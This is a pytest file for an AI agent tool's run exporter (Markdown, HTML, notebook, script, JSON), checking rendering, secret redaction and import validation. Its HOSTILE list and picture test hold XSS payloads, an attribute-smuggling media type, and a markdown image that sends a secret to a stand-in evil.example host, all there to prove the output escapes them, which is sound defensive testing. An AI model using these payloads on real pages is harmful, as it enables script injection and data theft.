import ast
import io
import json
import tokenize
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from inline_snapshot import snapshot
from markdown_it import MarkdownIt

from desktop_agent.agent.events import AnyEvent, CodeReady, RunFailed, RunStarted, Shown, StepFinished, decode_event
from desktop_agent.export import FORMATS, export_run, import_run, render_run
from desktop_agent.export.document import read_run
from desktop_agent.export.errors import UnknownFormat
from desktop_agent.export.markdown import escape, fence
from desktop_agent.store import RunStore
from desktop_agent.store.errors import RunFileInvalid
from desktop_agent.store.redaction import MARK, Redactor

MakeRun = Callable[..., list[AnyEvent]]
PNG = b"\x89PNG\r\n\x1a\nrest"


def test_markdown(make: MakeRun) -> None:
    assert render_run(make(), ".md") == snapshot("""\
# Leopard on a bridge

- **Started:** 2023-11-14 22:13 UTC
- **Model:** some/model (scripted)
- **Tools:** web\\_search, roll
- **Result:** answered
- **Steps:** 3
- **Time:** 4.5 s
- **Tokens:** 1,200 in, 80 out

## Task

How many seconds would a leopard need?

## Plan

1\\. Search.\\
2\\. Divide.

## Step 1: Look up

I look both numbers up.

```python
found = web_search("leopard speed")
print(found)
```

Tool **web\\_search** was called:

```python
web_search("leopard speed")
```

```text
58 km/h
```

Output:

```text
58 km/h
```

Value:

```text
16.1
```

*1.2 s model, 0.5 s code*

## Step 2: Divide

Now divide.

```python
155 / speed
```

Failed (NameError):

```text
name 'speed' is not defined
```

*0.0 s model, 0.1 s code*

## Step 3: Answer

Again.

```python
final_answer(155 / 16.1)
```

*Edited by person before it ran*

*0.0 s model, 0.1 s code*

## Answer

9.63 seconds
""")


def test_script(make: MakeRun) -> None:
    assert render_run(make(), ".py") == snapshot("""\
# Leopard on a bridge
#
# Task:
# How many seconds would a leopard need?

from desktop_agent.tools import DuckDuckGoSearchTool

web_search = DuckDuckGoSearchTool()


def roll(*args, **kwargs):
    raise NotImplementedError('The tool roll of the run is not defined in this file.')


def final_answer(answer):
    print(answer)
    return answer

# Plan: 1. Search.
# 2. Divide.

# Step 1: Look up
found = web_search("leopard speed")
print(found)

# Step 2: Divide
# Left out: name 'speed' is not defined
# 155 / speed

# Step 3: Answer
# Edited by person before it ran
final_answer(155 / 16.1)

# Answer:
# 9.63 seconds
""")


def test_notebook(make: MakeRun) -> None:
    notebook = json.loads(render_run(make(), ".ipynb"))
    assert notebook["nbformat"] == 4
    assert notebook["nbformat_minor"] == 5
    assert len({cell["id"] for cell in notebook["cells"]}) == len(notebook["cells"])
    assert [(cell["cell_type"], "".join(cell["source"])) for cell in notebook["cells"]] == snapshot(
        [
            (
                "markdown",
                """\
# Leopard on a bridge

- **Started:** 2023-11-14 22:13 UTC
- **Model:** some/model (scripted)
- **Tools:** web\\_search, roll
- **Result:** answered
- **Steps:** 3
- **Time:** 4.5 s
- **Tokens:** 1,200 in, 80 out

How many seconds would a leopard need?\
""",
            ),
            (
                "code",
                """\
from desktop_agent.tools import DuckDuckGoSearchTool

web_search = DuckDuckGoSearchTool()


def roll(*args, **kwargs):
    raise NotImplementedError('The tool roll of the run is not defined in this file.')


def final_answer(answer):
    print(answer)
    return answer
""",
            ),
            (
                "markdown",
                """\
## Plan

1\\. Search.\\
2\\. Divide.\
""",
            ),
            (
                "markdown",
                """\
## Step 1: Look up

I look both numbers up.\
""",
            ),
            (
                "code",
                """\
found = web_search("leopard speed")
print(found)\
""",
            ),
            (
                "markdown",
                """\
## Step 2: Divide

Now divide.\
""",
            ),
            ("code", "155 / speed"),
            (
                "markdown",
                """\
## Step 3: Answer

Again.

*Edited by person before it ran*\
""",
            ),
            ("code", "final_answer(155 / 16.1)"),
            (
                "markdown",
                """\
## Answer

9.63 seconds\
""",
            ),
        ]
    )
    assert [cell["outputs"] for cell in notebook["cells"] if cell["cell_type"] == "code"] == snapshot(
        [
            [],
            [
                {"output_type": "stream", "name": "stdout", "text": ["58 km/h\n"]},
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "data": {"text/plain": ["16.1"]},
                    "metadata": {},
                },
            ],
            [
                {
                    "output_type": "error",
                    "ename": "NameError",
                    "evalue": "name 'speed' is not defined",
                    "traceback": ["name 'speed' is not defined"],
                }
            ],
            [{"output_type": "execute_result", "execution_count": 3, "data": {"text/plain": ["9.63"]}, "metadata": {}}],
        ]
    )


class Shape(HTMLParser):
    """Collects the elements, attributes and text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.texts: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_html(make: MakeRun) -> None:
    page = render_run(make(), ".html")
    shape = Shape(page)
    assert set(shape.tags) == snapshot(
        {
            "body",
            "dd",
            "div",
            "dl",
            "dt",
            "h1",
            "h2",
            "head",
            "html",
            "meta",
            "pre",
            "section",
            "span",
            "style",
            "title",
        }
    )
    assert "default-src 'none'" in dict(shape.attributes).get("content", "") or "Content-Security-Policy" in page
    text = " ".join(" ".join(shape.texts).split())
    for expected in (
        "Leopard on a bridge",
        "I look both numbers up.",
        "58 km/h",
        "9.63 seconds",
        "NameError",
        "Edited by person",
    ):
        assert expected in text


HOSTILE = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</pre></div><iframe src=//evil.example>",
    "![x](https://evil.example/?q=secret)",
    "[click](javascript:alert(1))",
    "<https://evil.example>",
    "https://evil.example www.evil.example",
    "```\n# Heading\n```python\nimport os",
    "# Heading\n- list\n1. one\n> quote\n---\n===\n| a |\n|---|\n| b |",
    "Title\n===",
    "    indented code",
    "&lt;b&gt; &#60;",
    "[x]: https://evil.example\n[x]",
    "a\r# b\x0b# c\x85# d\u2028# e",
    "\u202ereversed",
    "$$x$$ *a* _b_ ~~c~~ `d`",
    '"""\nimport os',
    "\\",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_was_written_becomes_live_html(make: MakeRun, text: str) -> None:
    plain, hostile = Shape(render_run(make(), ".html")), Shape(render_run(make(every=text, code=text), ".html"))
    assert set(hostile.tags) <= set(plain.tags)
    assert {name for name, _ in hostile.attributes} <= {name for name, _ in plain.attributes}


def rendered(text: str) -> str:
    return MarkdownIt("gfm-like", {"linkify": False, "html": True}).render(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_that_was_written_becomes_live_markdown(make: MakeRun, text: str) -> None:
    plain, hostile = (
        Shape(rendered(render_run(make(), ".md"))),
        Shape(rendered(render_run(make(every=text, code=text), ".md"))),
    )
    assert set(hostile.tags) <= {*plain.tags, "br"}
    assert {name for name, _ in hostile.attributes} <= {name for name, _ in plain.attributes}


@given(st.text(max_size=60) | st.text("#*_`~<>[]()!|-+=.1 \n\\&:/$@w", max_size=60))
@settings(max_examples=400, deadline=None)
def test_escaped_text_is_shown_as_it_is(text: str) -> None:
    shape = Shape(rendered(escape(text)))
    assert set(shape.tags) <= {"p", "br"}
    shown = "".join("".join(shape.texts).split())
    visible = [character for character in text if not character.isspace()]
    if all(character.isprintable() or character in " \n\t" for character in text):
        assert shown == "".join(visible)


@given(st.text("`~ab\n", max_size=60) | st.text(max_size=60))
@settings(max_examples=200, deadline=None)
def test_nothing_in_a_fence_ends_it(text: str) -> None:
    shape = Shape(rendered(f"{fence(text)}\n\nafter"))
    assert shape.tags == ["pre", "code", "p"]


@given(st.text(max_size=80) | st.sampled_from(HOSTILE))
@settings(max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_text_becomes_code_of_the_script(make: MakeRun, text: str) -> None:
    plain, hostile = render_run(make(), ".py"), render_run(make(every=text), ".py")
    assert ast.dump(ast.parse(plain)) == ast.dump(ast.parse(hostile))
    list(tokenize.generate_tokens(io.StringIO(hostile).readline))


@given(st.text(max_size=80))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_every_format_takes_any_text(make: MakeRun, text: str) -> None:
    for one in FORMATS:
        render_run(make(every=text), one.ending)


def test_a_picture_is_embedded_only_when_it_is_one(make: MakeRun) -> None:
    events = make()
    for media_type, data, embedded in (
        ("image/png", PNG, True),
        ("image/png", b"<svg onload=alert(1)>", False),
        ("image/svg+xml", b"<svg/>", False),
        ('image/png" onerror="alert(1)', PNG, False),
    ):
        changed = [
            msgspec.structs.replace(
                event, value=Shown(kind="picture", text="<Figure>", media_type=media_type, data=data)
            )
            if isinstance(event, StepFinished) and event.step == 1
            else event
            for event in events
        ]
        assert ("data:image/png;base64,iVBOR" in render_run(changed, ".html")) is embedded
        assert ("data:image/png;base64,iVBOR" in render_run(changed, ".md")) is embedded
        assert ('"image/png"' in render_run(changed, ".ipynb")) is embedded


def test_a_table_is_a_table(make: MakeRun) -> None:
    table = Shown(kind="table", text="…", columns=("a|b", "<b>"), rows=(("1", "2"),), shape=(1, 2))
    events = [
        msgspec.structs.replace(event, value=table) if isinstance(event, StepFinished) and event.step == 1 else event
        for event in make()
    ]
    assert "| a\\|b | \\<b\\> |\n| --- | --- |\n| 1 | 2 |" in render_run(events, ".md")
    assert "<th>a|b</th><th>&lt;b&gt;</th>" in render_run(events, ".html")


def test_a_run_that_failed_or_did_not_end_says_so(make: MakeRun) -> None:
    events = make()[:-1]
    assert "## Not finished" in render_run(events, ".md")
    failed = RunFailed(run_id="r", seq=99, at=2e9, kind="network", message="No connection.", advice="Try again.")
    for ending in (".md", ".html", ".ipynb"):
        assert "No connection. Try again." in render_run([*events, failed], ending)
    assert read_run([]).heading == "Run"


def test_secrets_are_in_no_export(make: MakeRun) -> None:
    redactor = Redactor()
    redactor.register('canary<&"*_secret')
    for one in FORMATS:
        text = render_run(make(every='the token is canary<&"*_secret'), one.ending, redactor=redactor)
        assert "canary" not in text
        assert "removed" in text
    assert MARK == "[secret removed]"


def test_the_files_ending_chooses_the_format(make: MakeRun, tmp_path: Path) -> None:
    for one in FORMATS:
        target = tmp_path / f"run{one.ending.upper()}"
        export_run(make(), target)
        assert target.read_text() == render_run(make(), one.ending)
    with pytest.raises(UnknownFormat, match=r"Choose one of: \.agentrun, \.md, \.html, \.ipynb, \.json, \.py"):
        export_run(make(), tmp_path / "run.docx")
    with pytest.raises(UnknownFormat, match="no ending"):
        export_run(make(), tmp_path / "run")


def test_an_exported_run_opens_again_in_another_history(make: MakeRun, tmp_path: Path) -> None:
    export_run(make(), tmp_path / "run.json")
    with RunStore(tmp_path / "other.db") as store:
        run_id = import_run(tmp_path / "run.json", store)
        again = [decode_event(line) for line in store.events(run_id)]
        record = store.run(run_id)
    assert [msgspec.structs.replace(event, run_id="r") for event in again] == make()
    assert (record.title, record.state, record.steps, record.tokens_in) == ("Leopard on a bridge", "success", 3, 1200)
    assert record.answer_text == "9.63 seconds"


def test_what_the_command_line_prints_can_be_opened_too(make: MakeRun, tmp_path: Path) -> None:
    from desktop_agent.agent.events import encode_event

    (tmp_path / "run.jsonl").write_bytes(b"\n".join(encode_event(event) for event in make()) + b"\n")
    with RunStore(tmp_path / "other.db") as store:
        run_id = import_run(tmp_path / "run.jsonl", store)
        assert len(store.events(run_id)) == len(make())


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "is no exported run"),
        (b"{}", "does not begin with the start"),
        (b"[1]", "is no exported run"),
        (b'{"format": "other", "version": 1, "events": []}', "is no exported run"),
        (b'{"format": "desktop-agent run", "version": 99, "events": []}', "newer version"),
        (b'{"format": "desktop-agent run", "version": 1, "events": [{"event": "nonsense"}]}', "is no exported run"),
        (b"\xff\xfe", "is no exported run"),
    ],
)
def test_what_is_no_exported_run_is_refused(content: bytes, said: str, tmp_path: Path) -> None:
    (tmp_path / "run.json").write_bytes(content)
    with RunStore(tmp_path / "runs.db") as store:
        with pytest.raises(RunFileInvalid, match=said):
            import_run(tmp_path / "run.json", store)
        assert store.list_runs() == []


def test_what_says_nothing_is_left_out(make: MakeRun) -> None:
    events = [
        msgspec.structs.replace(event, value=Shown(text="None"))
        if isinstance(event, StepFinished)
        else msgspec.structs.replace(event, thought=event.title)
        if isinstance(event, CodeReady)
        else event
        for event in make()
    ]
    text = render_run(events, ".md")
    assert "None" not in text
    assert text.count("Look up") == 1


def test_the_document_counts_the_last_attempt_of_a_step(make: MakeRun) -> None:
    document = read_run(make())
    assert isinstance(make()[0], RunStarted)
    assert [step.number for step in document.steps] == [1, 2, 3]
    assert document.steps[2].code == "final_answer(155 / 16.1)"
    assert document.steps[0].calls[0].result == "58 km/h"
